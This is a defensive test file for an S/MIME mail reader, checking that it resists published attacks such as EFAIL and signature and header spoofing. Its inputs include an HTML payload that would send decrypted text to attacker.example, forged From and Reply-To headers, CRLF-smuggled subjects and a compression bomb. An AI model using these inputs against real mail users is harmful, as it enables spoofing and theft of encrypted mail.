// Attacks on mail, each under its name: CVE numbers, and i1… and m1… of "Johnny, you are fired!" (Müller et al. 2019).

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { NOW } from '@scel/testkit/authority'
import { ana, bob, draft, mailAround, mallory, reading, sealedFor, typed } from '../../test/mail-scene.ts'
import { refuses } from '../../test/refuses.ts'
import { compressedData } from '../../test/sealed-parts.ts'
import { seal } from '../../test/sealing.ts'
import { signerOf } from '../../test/signing-scene.ts'
import { explicit, implicitConstructed, integer, octetString, oid, sequence, setOf } from '../asn1/index.ts'
import { concat, fromUtf8, latin1, utf8 } from '../bytes/index.ts'
import { signBytes, signDetached } from '../cms/index.ts'
import { digest } from '../crypto/index.ts'
import { hasCode } from '../errors/index.ts'
import type { CompressedLayer, Mail, MimePart, SealedLayer, SignedLayer } from './index.ts'
import { buildMail, partContent, partText, readMail, readMime, sealMail, signMail } from './index.ts'
import { oneSource } from './writing/one-source.ts'

const signing = { signers: [signerOf(ana)], at: NOW }
const genuine = await signMail(buildMail({ ...draft, text: 'genuine' }), signing)
const sealedToBob = await sealMail(buildMail({ ...draft, text: 'a secret' }), sealedFor(bob))
const FROM = 'From: Ana <ana@example.org>'

/** The entity of a mail, without the fields that say who writes to whom. */
const entityOf = (mail: Uint8Array): string => fromUtf8(mail).slice(fromUtf8(mail).indexOf('Content-Type:'))

const mixed = (kind: string, ...parts: readonly string[]): Uint8Array =>
  typed(
    FROM,
    `Content-Type: multipart/${kind}; boundary=outer`,
    '',
    ...parts.map((part) => `--outer\r\n${part}`),
    '--outer--',
    '',
  )

const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`

const textsOf = (part: MimePart): string[] =>
  part.parts.length > 0 ? part.parts.flatMap(textsOf) : part.type.value.startsWith('text/') ? [partText(part)] : []

/** A mail with this field instead of its From, signed by Ana without header protection, as old programs sign. */
async function signedFrom(...fields: readonly string[]): Promise<Mail> {
  const signed = fromUtf8(await signMail(buildMail(draft), { ...signing, protectHeaders: false }))
  return readMail(utf8(signed.replace(/^From: .*\r\n/m, fields.map((field) => `${field}\r\n`).join(''))), reading)
}

test('CVE-2021-4126, CVE-2018-15587, CVE-2018-15586, m1–m4: a signed part beside others says nothing of the mail', async () => {
  const plain = 'Content-Type: text/plain\r\n\r\nforged'
  const opaque = entityOf(await signMail(buildMail(draft), { ...signing, form: 'opaque' }))
  for (const kind of ['mixed', 'related', 'alternative', 'signed']) {
    for (const parts of [
      [plain, entityOf(genuine)],
      [entityOf(genuine), plain],
      [html('<div style="display:none">'), entityOf(genuine)],
      [plain, opaque],
      [opaque],
    ]) {
      const mail = await readMail(mixed(kind, ...parts), reading)
      assert.deepEqual([mail.signature, mail.layers, mail.fields.some(({ signed }) => signed)], ['none', [], false])
      assert.equal(mail.warnings.filter((warning) => warning.kind === 'protected-part').length, 1)
    }
  }
})

test('m1–m4: text around the parts of a signed mail is not shown, and a third part makes it no signed mail', async () => {
  const text = fromUtf8(genuine)
  const boundary = /boundary="([^"]+)"/.exec(text)![1]!
  const around = text.replace(`\r\n\r\n--${boundary}\r\n`, `\r\n\r\nforged\r\n--${boundary}\r\n`)
  assert.notEqual(around, text)
  const read = await readMail(utf8(`${around}forged\r\n`), reading)
  assert.deepEqual([read.signature, textsOf(read.content)], ['valid', ['genuine\r\n']])
  for (const extra of [`\r\n\r\n--${boundary}\r\n\r\nforged\r\n--${boundary}\r\n`, undefined]) {
    const three = extra
      ? text.replace(`\r\n\r\n--${boundary}\r\n`, extra)
      : text.replace(`--${boundary}--`, `--${boundary}\r\n\r\nforged\r\n--${boundary}--`)
    assert.notEqual(three, text)
    const mail = await readMail(utf8(three), reading)
    assert.equal(mail.signature, 'invalid')
    assert.ok(hasCode((mail.layers[0] as SignedLayer).error, 'mime_malformed'))
  }
})

test('CVE-2018-18509: a signature that brings a content of its own is not taken for the one shown', async () => {
  const own = await signBytes(utf8('Content-Type: text/plain\r\n\r\nanother'), signing)
  const lines = latin1(mailAround(own)).split('\r\n\r\n')[1]!
  const mail = typed(
    FROM,
    'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b',
    '',
    '--b',
    '',
    'shown',
    '--b',
    'Content-Type: application/pkcs7-signature',
    'Content-Transfer-Encoding: base64',
    '',
    `${lines}--b--`,
    '',
  )
  const read = await readMail(mail, reading)
  assert.equal(read.signature, 'invalid')
  assert.ok(hasCode((read.layers[0] as SignedLayer).error, 'content_twice'))
})

test('a signature of another type than the mail says it has is not taken for one', async () => {
  for (const type of ['application/pgp-signature', 'application/octet-stream', 'text/plain']) {
    const other = fromUtf8(genuine).replace('Content-Type: application/pkcs7-signature', `Content-Type: ${type}`)
    assert.notEqual(other, fromUtf8(genuine))
    const mail = await readMail(utf8(other), reading)
    assert.equal(mail.signature, 'invalid')
    assert.ok(hasCode((mail.layers[0] as SignedLayer).error, 'mime_malformed'))
  }
})

test('i1: an empty or missing From, a group, or no address: nobody is the author, and nothing is valid', async () => {
  for (const from of [
    'From:',
    'From: <>',
    'From: Ana',
    'From: team: ana@example.org;',
    'From: ana@example.org <>',
    'X-From: ana@example.org',
  ]) {
    const mail = await signedFrom(from)
    assert.deepEqual([mail.from, mail.signature], [undefined, 'invalid'], from)
    assert.ok(
      mail.warnings.some(({ kind }) => kind === 'from-unclear'),
      from,
    )
  }
})

test('i2: several authors, in one From or in several, are nobody', async () => {
  for (const from of [
    ['From: boss@example.org, ana@example.org'],
    ['From: ana@example.org, boss@example.org'],
    ['From: boss@example.org', 'From: ana@example.org'],
    ['From: ana@example.org', 'from: boss@example.org'],
  ]) {
    const mail = await signedFrom(...from)
    assert.deepEqual([mail.from, mail.signature], [undefined, 'invalid'], from.join())
  }
})

test('i3: a name that looks like an address is told, and the address alone is compared', async () => {
  for (const name of [
    '"boss@example.org"',
    '=?utf-8?Q?boss=40example.org?=',
    '"boss＠example.org"',
    '"boss\u200b@example.org"',
    'boss@example.org',
    `"${'a'.repeat(600)} boss@example.org"`,
  ]) {
    const mail = await signedFrom(`From: ${name} <ana@example.org>`)
    assert.deepEqual([mail.from?.address, mail.signature], ['ana@example.org', 'valid'], name)
    assert.equal(mail.warnings[0]?.kind, 'from-misleading', name)
  }
  const own = await signedFrom('From: "ana@example.org" <ana@example.org>')
  assert.deepEqual(own.warnings, [])
  // The other way round: the author's name is the signer's address, the address is not.
  const reversed = await signedFrom('From: "ana@example.org" <boss@example.org>')
  assert.equal(reversed.signature, 'invalid')
  for (const word of [
    'From: =?utf-8?Q?ana=40example.org?=',
    'From: boss@example.org(ana@example.org)',
    'From: boss@[ana@example.org]',
  ]) {
    assert.equal((await signedFrom(word)).signature, 'invalid', word)
  }
})

test('a signer who is the Sender and not the author signs for nobody; who sent is told', async () => {
  const mail = await signedFrom('From: boss@example.org', 'Sender: ana@example.org')
  assert.equal(mail.signature, 'invalid')
  assert.deepEqual(mail.warnings, [{ kind: 'sender-differs', sender: 'ana@example.org' }])
  for (const [sender, told] of [
    ['Ana <ana@EXAMPLE.org>', []],
    ['ANA@example.org', ['sender-differs']],
    ['ana@example.org, boss@example.org', ['sender-differs']],
  ] as const) {
    const { warnings } = await signedFrom(FROM, `Sender: ${sender}`)
    assert.deepEqual(
      warnings.map(({ kind }) => kind),
      told,
      sender,
    )
  }
  const [layer] = mail.layers as SignedLayer[]
  const { integrity, chain, identity } = layer!.signers[0]!
  assert.deepEqual([integrity.ok, chain.ok, identity !== 'not-asked' && identity.ok], [true, true, false])
})

test('an answer that would go to somebody else, and a mail that somebody sent on, are told', async () => {
  for (const [field, told] of [
    ['Reply-To: Ana <ana@EXAMPLE.org>', []],
    ['Reply-To: mallory@example.org', [{ kind: 'reply-differs', replyTo: 'mallory@example.org' }]],
    [
      'Reply-To: ana@example.org, mallory@example.org',
      [{ kind: 'reply-differs', replyTo: 'ana@example.org, mallory@example.org' }],
    ],
    ['Resent-From: ana@example.org', []],
    ['Resent-From: mallory@example.org', [{ kind: 'resent', by: 'mallory@example.org' }]],
  ] as const) {
    assert.deepEqual((await signedFrom(FROM, field)).warnings, told, field)
  }
})

test('EFAIL (CVE-2017-17688, CVE-2017-17689): a sealed part between parts of HTML is not opened, nor joined with them', async () => {
  const parts = [html('<img src="http://attacker.example/'), entityOf(sealedToBob), html('">')]
  const mail = await readMail(mixed('mixed', ...parts), reading)
  assert.deepEqual([mail.layers, mail.sealed], [[], false])
  assert.deepEqual(
    mail.content.parts.map(({ type }) => type.value),
    ['text/html', 'application/pkcs7-mime', 'text/html'],
  )
  assert.ok(!textsOf(mail.content).join('').includes('secret'))
  assert.deepEqual(mail.warnings, [{ kind: 'protected-part', type: 'application/pkcs7-mime' }])
})

test('EFAIL: what was sealed never fetches anything, and blocks put into a CBC seal are never valid', async () => {
  assert.equal((await readMail(sealedToBob, reading)).mayFetch, false)
  const sealed = await sealMail(buildMail(draft), { ...sealedFor(bob), cipher: 'AES-256-CBC' })
  const { fields, body } = { fields: readMime(sealed).fields, body: partContent(readMime(sealed)) }
  assert.ok(fields.length > 0)
  const seen = new Set<string>()
  for (let at = body.length - 400; at < body.length - 20; at += 7) {
    const altered = body.slice()
    altered[at]! ^= 1
    const mail = await readMail(mailAround(altered, FROM), reading)
    assert.notEqual(mail.signature, 'valid')
    const { error } = mail.layers[0] as SealedLayer
    seen.add(error ? error.code : mail.warnings.some(({ kind }) => kind === 'content-malleable') ? 'told' : 'silent')
  }
  assert.ok(!seen.has('silent'))
  // Whatever became of the plaintext, there is no second word for it.
  assert.deepEqual(
    [...seen].filter((code) => code === 'mime_malformed'),
    [],
  )
})

test('REPLY: a sealed mail that is quoted or attached in another is not opened, so that no answer can carry it', async () => {
  const attached = `Content-Type: message/rfc822\r\n\r\n${fromUtf8(sealedToBob)}`
  for (const mail of [
    mixed('mixed', 'Content-Type: text/plain\r\n\r\nplease answer', attached),
    mixed('mixed', attached),
  ]) {
    const read = await readMail(mail, reading)
    assert.deepEqual([read.layers, read.sealed], [[], false])
    assert.ok(!textsOf(read.content).join('').includes('secret'))
  }
})

test('header names with spaces, NUL, or nothing, lines of spaces and bare CRs are refused', async () => {
  for (const [what, ...headers] of [
    ['header field name', 'Subject : smuggled', 'Sub ject: smuggled', ': smuggled', 'no colon', 'Sübject: smuggled'],
    ['control character in header', 'Subject\0: smuggled', 'Subject: smug\0gled', `${FROM}\rSubject: smuggled`],
    ['header begins with a continuation', ' a continuation of nothing'],
    ['header line of spaces', `${FROM}\r\n \r\nSubject: smuggled`, `${FROM}\r\n\t \r\n Subject: smuggled`],
  ] as const) {
    for (const header of headers) {
      await refuses(readMail(utf8(`${header}\r\n\r\na text`), reading), 'mime_malformed', { what })
    }
  }
})

test('a Subject that is smuggled into an encoded word or beside another stays one text, or is told', async () => {
  const hidden = typed(FROM, 'Subject: =?utf-8?Q?a=0D=0AFrom:_boss@example.org?=', '', 'a text')
  const read = await readMail(hidden, reading)
  assert.deepEqual(read.fields[1]?.text, 'a\ufffd\ufffdFrom: boss@example.org')
  assert.equal(read.from?.address, 'ana@example.org')
  const twice = await readMail(typed(FROM, 'Subject: a', 'subject: b', '', 'a text'), reading)
  assert.deepEqual(twice.warnings, [{ kind: 'field-twice', name: 'Subject' }])
})

test('boundaries: a line that begins like one is content, spaces behind one are not, another part’s boundary is content', () => {
  const parts = (body: string, boundary = 'b'): string[] =>
    readMime(utf8(`Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n${body}`)).parts.map((part) =>
      latin1(part.body),
    )
  assert.deepEqual(parts('--b\r\n\r\none\r\n--bb\r\n--b-\r\n--b--x\r\n --b\r\n--b \t\r\n\r\ntwo\r\n--b-- \r\n'), [
    'one\r\n--bb\r\n--b-\r\n--b--x\r\n --b',
    'two',
  ])
  // Nothing but spaces and tabs, as many as there are; other characters are blank for some programs only.
  for (const blank of ['\v', '\f', '\r', '\u00a0', '\0']) {
    assert.deepEqual(parts(`--b\r\n\r\none\r\n--b${blank}\r\ntwo\r\n--b--`), [
      `one\r\n--b${latin1(utf8(blank))}\r\ntwo`,
    ])
  }
  assert.deepEqual(parts(`--b\r\n\r\none\r\n--b${' \t'.repeat(500)}\r\n\r\ntwo\r\n--b--\t`), ['one', 'two'])
  // The outer boundary begins with the inner one.
  const inner = 'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nin\r\n--b--'
  const [first, second] = readMime(
    utf8(`Content-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n${inner}\r\n--bb\r\n\r\nout\r\n--bb--\r\n`),
  ).parts
  assert.deepEqual([textsOf(first!), textsOf(second!)], [['in'], ['out']])
  for (const type of [
    'multipart/mixed; boundary=b; boundary=c',
    'multipart/mixed; boundary="b "',
    'multipart/mixed; boundary="b\tc"',
  ]) {
    assert.throws(
      () => readMime(utf8(`Content-Type: ${type}\r\n\r\n--b\r\n\r\n\r\n--b--\r\n`)),
      (error) => hasCode(error, 'mime_malformed'),
    )
  }
})

test('LF for CRLF does not change a verdict silently: it is told, and the lines that were verified are those shown', async () => {
  const lf = await readMail(utf8(fromUtf8(genuine).replaceAll('\r\n', '\n')), reading)
  assert.deepEqual([lf.signature, lf.warnings], ['valid', [{ kind: 'line-ends-changed' }]])
  assert.equal(partText(lf.content), 'genuine\r\n')
  // A CR alone is no line end for anybody, so it cannot be put in or taken away.
  const cr = await readMail(utf8(fromUtf8(genuine).replace('genuine', 'gen\ruine')), reading)
  assert.equal(cr.signature, 'invalid')
})

test('CVE-2023-50761: an old mail under a new Date is told, and the moment of judging stays', async () => {
  const signed = fromUtf8(await signMail(buildMail(draft), { ...signing, protectHeaders: false }))
  const dated = async (date: string, more = {}): Promise<Mail> =>
    readMail(utf8(signed.replace(/^Date: .*\r\n/m, date === '' ? '' : `Date: ${date}\r\n`)), { ...reading, ...more })
  for (const date of [
    'Mon, 01 Jun 2026 12:00:00 +0000',
    'Mon, 1 Jun 2026 12:59:59 GMT',
    '1 Jun 2026 07:30 -0400',
    'Mon,  1 Jun 2026\r\n 17:30:00 +0530 (IST)',
    '',
  ]) {
    assert.deepEqual((await dated(date)).warnings, [], date)
  }
  for (const date of [
    'Tue, 02 Jun 2026 12:00:00 +0000',
    'Mon, 01 Jun 2026 13:00:01 +0000',
    'Mon, 01 Jun 2026 10:59:59 +0000',
    'Mon, 01 Jun 2026 12:00:00 -0530',
    'Mon, 01 Jun 2026 12:00:00',
    'Mon, 01 Jan 2026 12:00:00 +0000',
    'Mon, 01 Foo 2026 12:00:00 +0000',
    'today',
  ]) {
    const { signature, warnings } = await dated(date)
    assert.deepEqual([signature, warnings], ['valid', [{ kind: 'date-differs', date, signingTime: NOW }]], date)
  }
  // Neither moment is the one at which the certificate is judged.
  const after = await dated('Mon, 01 Jun 2026 12:00:00 +0000', { at: new Date('2028-06-01T00:00:00Z') })
  assert.deepEqual([after.signature, after.warnings], ['invalid', []])
})

test('inner and outer header fields are never merged: those inside are shown, and a difference is told (RFC 9788)', async () => {
  const forged = fromUtf8(genuine)
    .replace(/^Subject: .*(\r\n .*)*$/m, 'Subject: forged')
    .replace(/^To: .*$/m, 'To: all@example.org\r\nReply-To: mallory@example.org')
    .replace(/^From: .*$/m, 'From: boss@example.org')
  const read = await readMail(utf8(forged), reading)
  assert.equal(read.signature, 'valid')
  assert.equal(read.from?.address, 'ana@example.org')
  assert.deepEqual(
    read.fields.map(({ name, signed }) => [name, signed]),
    ['From', 'To', 'Subject', 'Date', 'Message-ID'].map((name) => [name, true]),
  )
  assert.deepEqual(
    read.warnings.map((warning) => warning.kind === 'field-differs' && warning.name),
    ['From', 'Reply-To', 'To', 'Subject'],
  )
})

test('an unsigned seal with another From inside: the one outside is shown, and nobody is believed (RFC 9788 §4.4)', async () => {
  const forged = buildMail({ ...draft, from: { address: 'boss@example.org' } })
  const sealed = fromUtf8(await sealMail(forged, sealedFor(bob))).replace('From: boss@', 'From: mallory@')
  const read = await readMail(utf8(sealed), reading)
  assert.deepEqual([read.from?.address, read.signature], ['mallory@example.org', 'none'])
  assert.ok(read.warnings.some((warning) => warning.kind === 'field-differs' && warning.name === 'From'))
  const signedByOther = await sealMail(forged, { ...sealedFor(bob), sign: { signers: [signerOf(mallory)], at: NOW } })
  const other = await readMail(utf8(fromUtf8(signedByOther).replace('From: boss@', 'From: mallory@')), reading)
  assert.deepEqual([other.from?.address, other.signature], ['mallory@example.org', 'invalid'])
})

test('header fields in a payload whose signature does not hold are not shown as the mail’s', async () => {
  const broken = fromUtf8(genuine)
    .replace('genuine', 'altered')
    .replace(/^To: .*$/m, 'To: carried@example.org')
  const read = await readMail(utf8(broken), reading)
  assert.equal(read.signature, 'invalid')
  assert.ok(read.fields.every(({ signed, hidden }) => !signed && !hidden))
  assert.equal(read.fields.find(({ name }) => name === 'To')?.value, 'carried@example.org')
})

test('a signed receipt or a forwarded mail does not lend its signature to the mail around it', async () => {
  const forwarded = `Content-Type: message/rfc822\r\n\r\n${fromUtf8(genuine)}`
  for (const mail of [
    concat(utf8(`${FROM}\r\n`), utf8(forwarded)),
    mixed('mixed', 'Content-Type: text/plain\r\n\r\nsee below', forwarded),
    mixed('report; report-type=disposition-notification', 'Content-Type: text/plain\r\n\r\nread', entityOf(genuine)),
  ]) {
    const read = await readMail(mail, reading)
    assert.deepEqual([read.signature, read.layers], ['none', []])
  }
  // Signed by whoever forwards: their signature is over it, the one inside is not asked.
  const by = await signMail(concat(utf8('From: mallory@example.org\r\n'), utf8(forwarded)), {
    signers: [signerOf(mallory)],
    at: NOW,
  })
  const read = await readMail(by, reading)
  assert.deepEqual([read.signature, read.from?.address, read.layers.length], ['valid', 'mallory@example.org', 1])
  assert.equal(read.content.type.value, 'message/rfc822')
})

test('a bomb in a compressed mail is not unpacked, compression protects nothing, and its damage is its own', async () => {
  const limits = { bytes: 1024 * 1024 }
  const bomb = concat(buildMail(draft), new Uint8Array(limits.bytes))
  const bombed = await readMail(mailAround(compressedData(deflateSync(bomb)), FROM), { ...reading, limits })
  assert.deepEqual([bombed.layers[0]?.kind, bombed.content.type.value], ['compressed', 'application/pkcs7-mime'])
  assert.ok(hasCode((bombed.layers[0] as CompressedLayer).error, 'input_too_large'))
  const zlib = deflateSync(typed('Subject: inside', 'Content-Type: text/plain; hp="clear"', '', 'small'))
  const plain = await readMail(mailAround(compressedData(zlib), FROM, 'Subject: outside'), reading)
  assert.deepEqual([plain.signature, plain.sealed, partText(plain.content)], ['none', false, 'small'])
  assert.equal(plain.fields.find(({ name }) => name === 'Subject')?.text, 'outside')
  const cut = await readMail(mailAround(compressedData(zlib.subarray(0, -1)), FROM), reading)
  assert.ok(hasCode((cut.layers[0] as CompressedLayer).error, 'cms_malformed'))
  // Signed before or after: the signature is over all of it.
  for (const signed of [
    await signMail(mailAround(compressedData(deflateSync(typed('', 'small'))), FROM), signing),
    mailAround(compressedData(deflateSync(genuine)), FROM),
  ]) {
    const { signature, layers } = await readMail(signed, reading)
    assert.deepEqual([signature, new Set(layers.map(({ kind }) => kind))], ['valid', new Set(['signed', 'compressed'])])
  }
})

test('content that is digested or only authenticated is no mail: neither protects what it is taken to protect', async () => {
  const inner = typed('From: boss@example.org', 'Content-Type: text/plain; hp="cipher"', '', 'a text')
  const content = sequence(oid('1.2.840.113549.1.7.1'), explicit(0, octetString(inner)))
  const code = octetString(await digest('SHA-256', inner))
  const digested = sequence(integer(0), sequence(oid('2.16.840.1.101.3.4.2.1')), content, code)
  const wrapped = [sequence(octetString(utf8('june'))), sequence(oid('2.16.840.1.101.3.4.1.45')), octetString(content)]
  const recipients = setOf(implicitConstructed(2, integer(4), ...wrapped))
  const authenticated = sequence(integer(0), recipients, sequence(oid('1.2.840.113549.2.9')), content, code)
  for (const [what, structure, type] of [
    ['digestedData', digested, '1.2.840.113549.1.7.5'],
    ['authenticatedData', authenticated, '1.2.840.113549.1.9.16.1.2'],
  ] as const) {
    const cms = sequence(oid(type), explicit(0, structure))
    const { layers, sealed, from } = await readMail(mailAround(cms, FROM), reading)
    const { error } = layers[0] as SealedLayer
    assert.ok(hasCode(error, 'cms_malformed') && error.facts.what === `${what} in a mail`, what)
    assert.deepEqual([sealed, from?.address], [false, 'ana@example.org'])
  }
})

test('a detached signature where its content should be inside signs nothing', async () => {
  const mail = await readMail(mailAround(await signDetached(oneSource(utf8('')), signing), FROM), reading)
  assert.equal(mail.signature, 'invalid')
  assert.ok(hasCode((mail.layers[0] as SignedLayer).error, 'content_missing'))
})

test('a signature around another has to hold as well, and only the inner one is held against the Date', async () => {
  const later = new Date(NOW.getTime() + 86_400_000)
  const list = { signers: [signerOf(mallory)], at: later, protectHeaders: false }
  const resent = await signMail(genuine, list)
  const read = await readMail(resent, { ...reading, at: later })
  assert.deepEqual([read.signature, read.warnings], ['valid', []])
  // A field of the inner multipart, which only the outer signature is over.
  const altered = utf8(latin1(resent).replace(/sha-256(?!.*sha-256)/s, 'sha-512'))
  assert.notDeepEqual(altered, resent)
  assert.equal((await readMail(altered, { ...reading, at: later })).signature, 'invalid')
})

test('a media type or file name says nothing: what the content is decides, and what it cannot be is refused', async () => {
  const sealed = await seal(buildMail(draft), sealedFor(bob))
  const signed = await signBytes(buildMail(draft), signing)
  const claiming = (cms: Uint8Array, type: string): Uint8Array =>
    utf8(latin1(mailAround(cms, FROM)).replace('application/pkcs7-mime', `application/pkcs7-mime; smime-type=${type}`))
  const one = await readMail(claiming(sealed, 'signed-data'), reading)
  assert.deepEqual([one.signature, one.sealed], ['none', true])
  const other = await readMail(claiming(signed, 'enveloped-data'), reading)
  assert.deepEqual([other.signature, other.sealed], ['valid', false])
  const nothing = await readMail(claiming(utf8('not CMS'), 'signed-data'), reading)
  assert.ok((nothing.layers[0] as SealedLayer).error)
  assert.notEqual(nothing.signature, 'valid')
})
